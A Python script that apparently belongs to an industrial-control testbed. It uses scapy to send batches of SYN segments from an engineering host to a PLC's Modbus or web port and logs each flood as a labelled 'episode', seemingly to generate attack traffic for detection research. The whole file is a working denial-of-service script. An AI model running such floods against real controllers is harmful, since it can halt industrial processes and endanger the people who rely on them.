"""A flood of SYN segments without a connection."""

import time

from scapy.all import IP, TCP, Ether, RandInt, RandShort, conf

from attacks.episode import MODBUS_PORT, arguments, episode, ports, reserve_ports
from network import ENGINEERING, PLC

# Segments, port of the controller, seconds between two.
FLOODS = {1: (200, MODBUS_PORT, 0.005), 2: (120, 80, 0.05), 3: (250, MODBUS_PORT, 0.001)}

if __name__ == "__main__":
    given = arguments(__doc__)
    count, flooded, pause = FLOODS[given.number]
    syn_ports = reserve_ports(count)
    wire = conf.L2socket(iface="eth0")
    description = f"{count} SYN segments to port {flooded}, none followed by a connection"
    with episode(given.log, f"syn_flood_{given.number}", description, [ports(syn_ports)]):
        for port in syn_ports:
            frame = Ether(src=ENGINEERING.mac, dst=PLC.mac) / IP(src=ENGINEERING.ip, dst=PLC.ip, id=RandShort())
            segment = TCP(sport=port, dport=flooded, flags="S", seq=RandInt(), window=1024)
            wire.send(frame / segment)
            time.sleep(pause)
